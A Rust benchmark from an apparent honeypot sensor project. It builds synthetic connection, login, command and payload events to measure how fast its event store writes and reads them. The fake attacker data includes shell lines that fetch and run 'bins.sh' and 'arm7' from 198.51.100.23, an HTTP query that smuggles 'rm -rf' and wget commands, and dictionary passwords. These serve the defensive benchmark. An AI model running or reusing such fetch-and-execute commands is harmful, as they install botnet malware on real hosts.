//! Store benchmark (run with `cargo bench -p drosera-sensor --bench store` or
//! `scripts/bench-store.sh`): ingest rate with group commit, bytes on disk per typical
//! connection event, and batch-read rate. Prints one `key=value` line per measurement.
//!
//! `mixed` as an argument (`scripts/bench-store.sh N mixed`) measures a mixed workload instead of
//! the typical connection event (issue 18: 99 bytes per event were seen on a real mixed workload
//! against 77.6 here): see [`mixed`].
//!
//! Not a test: numbers go into docs/benchmarks.md, nothing here asserts on time.
// Integration tests and benches may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use drosera_sensor::config::{StoreSection, Synchronous};
use drosera_sensor::rollup::RollupTable;
use drosera_sensor::store;
use drosera_uplink::event::{CloseReason, Detail, Event, Priority, Protocol, Secret, Transport};
use std::sync::Arc;
use std::time::Instant;

/// A typical flood event: a connection that sent a short HTTP probe and closed.
fn typical(i: u64) -> Event {
    Event {
        seq: 0,
        time_ms: 1_763_800_000_000 + (i / 50) as i64,
        sensor: String::new(),
        transport: Transport::Tcp,
        protocol: Protocol::Http,
        src_ip: std::net::IpAddr::from([(i >> 24) as u8 | 1, (i >> 16) as u8, (i >> 8) as u8, i as u8]),
        src_port: 32_768 + (i % 28_000) as u16,
        dst_port: 80,
        session_id: i,
        duration_ms: 35 + (i % 400) as u32,
        bytes_in: 37,
        bytes_out: 0,
        priority: Priority::Noise,
        detail: Detail::Connection {
            first_bytes: b"GET / HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n".to_vec(),
            closed_by: CloseReason::ClientClosed,
        },
    }
}

/// A mixed honeypot workload, per 100 events: 40 connections (HTTP, SMB, RDP, TLS and Redis
/// probes, some empty), 20 logins (Telnet, SSH, FTP, MSSQL; dictionary names and passwords),
/// 15 shell command lines, 12 HTTP requests with headers, 6 SSH fingerprints, 4 payloads with a
/// 200-512 byte prefix, 3 download offers. Sources: 3,000 addresses; session ids as the
/// listener makes them (a random 32-bit prefix and a counter), several events per session;
/// real timestamps.
fn mixed(i: u64) -> Event {
    const USERS: [&str; 8] = ["root", "admin", "user", "ubnt", "support", "test", "oracle", "pi"];
    const PASSWORDS: [&str; 8] = ["123456", "admin", "password", "root", "12345678", "raspberry", "1234", "qwerty"];
    const CMDS: [&str; 6] = [
        "enable",
        "system",
        "shell",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh",
        "uname -a; nproc; free -m | grep Mem; ls -lh $(which ls); crontab -l; w",
    ];
    const PROBES: [&[u8]; 5] = [
        b"GET / HTTP/1.1\r\nHost: 203.0.113.9:80\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n",
        b"\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18\x53\xc8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xfe\x00\x00\x00\x00",
        b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
        b"\x16\x03\x01\x00\xc8\x01\x00\x00\xc4\x03\x03\x5b\x90\x9d\x9b\x72\x0b\xbc\x0c\xbc\x2b\x92\xa8\x48\x97\xcf\xbd",
        b"*1\r\n$4\r\nINFO\r\n",
    ];
    let h = i.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let pick = |n: usize, salt: u64| ((h >> (salt * 7 % 50)) % n as u64) as usize;
    let session = i / 3;
    let src = (session.wrapping_mul(2_654_435_761) % 3000) as u32;
    let (protocol, dst_port, priority, detail) = match i % 100 {
        0..=39 => {
            let k = pick(6, 1);
            let (protocol, port) = [
                (Protocol::Http, 80),
                (Protocol::Smb, 445),
                (Protocol::Rdp, 3389),
                (Protocol::Http, 443),
                (Protocol::Redis, 6379),
                (Protocol::Blackhole, 23231),
            ][k];
            let first_bytes = if k == 5 { Vec::new() } else { PROBES[k.min(4)].to_vec() };
            (protocol, port, Priority::Noise, Detail::Connection { first_bytes, closed_by: CloseReason::ClientClosed })
        }
        40..=59 => {
            let (protocol, port) =
                [(Protocol::Telnet, 23), (Protocol::Ssh, 22), (Protocol::Ftp, 21), (Protocol::Mssql, 1433)][pick(4, 2)];
            let extra = if protocol == Protocol::Mssql {
                vec![("client_host".into(), "WIN-3K1ABCD".into()), ("app_name".into(), "OSQL-32".into())]
            } else {
                Vec::new()
            };
            let detail = Detail::Login {
                username: USERS[pick(8, 3)].into(),
                secret: Secret::Password(format!("{}{}", PASSWORDS[pick(8, 4)], if i % 7 == 0 { "!" } else { "" })),
                success: false,
                extra,
            };
            (protocol, port, Priority::Credential, detail)
        }
        60..=74 => (Protocol::Telnet, 23, Priority::Interaction, Detail::Command { line: CMDS[pick(6, 5)].into() }),
        75..=86 => {
            let paths =
                ["/", "/.env", "/wp-login.php", "/cgi-bin/luci/;stok=/locale", "/shell", "/boaform/admin/formLogin"];
            let detail = Detail::HttpRequest {
                method: if i % 5 == 0 { "POST".into() } else { "GET".into() },
                path: paths[pick(6, 6)].into(),
                query: if i % 3 == 0 { "cmd=rm+-rf+/tmp/*;wget+http://198.51.100.23/x;sh+x".into() } else { String::new() },
                host: "203.0.113.9".into(),
                user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36".into(),
                body_sha256: None,
                body_len: 0,
                extra: vec![("accept".into(), "*/*".into()), ("connection".into(), "close".into())],
            };
            (Protocol::Http, 80, Priority::Interaction, detail)
        }
        87..=92 => {
            let detail = Detail::Fingerprint {
                kind: "hassh".into(),
                value: format!("{:032x}", (h as u128) * 0x1f1f_1f1f),
                extra: vec![("client".into(), "SSH-2.0-Go".into())],
            };
            (Protocol::Ssh, 22, Priority::Interaction, detail)
        }
        93..=96 => {
            let n = 200 + pick(313, 7);
            let prefix: Vec<u8> =
                (0..n).map(|k| b"#!/bin/sh\nwget http://198.51.100.23/arm7; chmod +x arm7; ./arm7\n"[k % 64]).collect();
            let detail = Detail::Payload {
                sha256: [(i % 251) as u8; 32],
                size: 4096 + n as u64,
                name: "bins.sh".into(),
                prefix,
                truncated: false,
            };
            (Protocol::Ftp, 21, Priority::Critical, detail)
        }
        _ => (
            Protocol::Telnet,
            23,
            Priority::Critical,
            Detail::DownloadOffered { url: "http://198.51.100.23/bins.sh".into(), tool: "wget".into() },
        ),
    };
    Event {
        seq: 0,
        time_ms: 1_763_800_000_000 + (i * 37) as i64,
        sensor: String::new(),
        transport: Transport::Tcp,
        protocol,
        src_ip: std::net::IpAddr::from([45, 10 + (src >> 8) as u8, src as u8, 7]),
        src_port: 32_768 + (session % 28_000) as u16,
        dst_port,
        session_id: (0x8d3a_51c7u64 << 32) + session,
        duration_ms: 35 + (i % 4000) as u32,
        bytes_in: 37 + i % 300,
        bytes_out: i % 120,
        priority,
        detail,
    }
}

fn ingest(synchronous: Synchronous, n: u64, make: fn(u64) -> Event) {
    let name = match synchronous {
        Synchronous::Normal => "normal",
        Synchronous::Full => "full",
    };
    let dir = tempfile::tempdir_in(std::env::var("BENCH_DIR").unwrap_or_else(|_| "/var/tmp".into())).unwrap();
    let cfg = StoreSection { cap_bytes: 4 << 30, reserve_bytes: 0, synchronous, ..StoreSection::default() };
    let (handle, writer) = store::open(&cfg, dir.path(), "bench").unwrap();
    let (tx, rx) = drosera_sensor::sink::EventQueue::blocking(cfg.channel_capacity);
    let stop = tokio_util::sync::CancellationToken::new();
    let t0 = Instant::now();
    let wh = writer.spawn(rx, Arc::new(RollupTable::new(10)), stop.clone()).unwrap();
    for i in 0..n {
        tx.blocking_send(make(i)).unwrap();
    }
    drop(tx);
    stop.cancel();
    wh.join().unwrap();
    let secs = t0.elapsed().as_secs_f64();
    let st = handle.status().unwrap();
    assert_eq!(st.last_seq, n);
    let conn = rusqlite::Connection::open(handle.db_path()).unwrap();
    let pages: i64 = conn.query_row("PRAGMA page_count", [], |r| r.get(0)).unwrap();
    let free: i64 = conn.query_row("PRAGMA freelist_count", [], |r| r.get(0)).unwrap();
    drop(conn);
    let encoded =
        (0..1000).map(|i| postcard::to_stdvec(&make(n / 2 + i)).unwrap().len()).sum::<usize>() as f64 / 1000.0;
    println!("ingest synchronous={name} events={n} seconds={secs:.2} events_per_s={:.0}", n as f64 / secs);
    println!(
        "size synchronous={name} postcard_bytes_per_event={encoded:.1} db_bytes_per_event={:.1} files_bytes_per_event={:.1}",
        ((pages - free) as f64 * 4096.0) / n as f64,
        st.store_bytes as f64 / n as f64
    );
    if synchronous == Synchronous::Normal {
        let t1 = Instant::now();
        let mut after = 0;
        let mut got = 0u64;
        loop {
            let b = handle.read_batch(after, 5000, 4 << 20).unwrap();
            let Some(last) = b.last() else { break };
            after = last.seq;
            got += b.len() as u64;
        }
        let secs = t1.elapsed().as_secs_f64();
        assert_eq!(got, n);
        println!("read batch=5000 events={got} seconds={secs:.2} events_per_s={:.0}", got as f64 / secs);
        let t2 = Instant::now();
        let mut upto = 0;
        while upto < n {
            upto = (upto + 5000).min(n);
            handle.ack(upto).unwrap();
        }
        println!("ack batch=5000 events={n} seconds={:.2}", t2.elapsed().as_secs_f64());
    }
}

fn main() {
    // `cargo bench` passes `--bench`; a number argument overrides the event count.
    let n = std::env::args().skip(1).find_map(|a| a.parse::<u64>().ok()).unwrap_or(1_000_000);
    if std::env::args().any(|a| a == "mixed") {
        println!("workload=mixed");
        ingest(Synchronous::Normal, n, mixed);
        return;
    }
    println!("workload=typical");
    ingest(Synchronous::Normal, n, typical);
    ingest(Synchronous::Full, n / 4, typical);
}
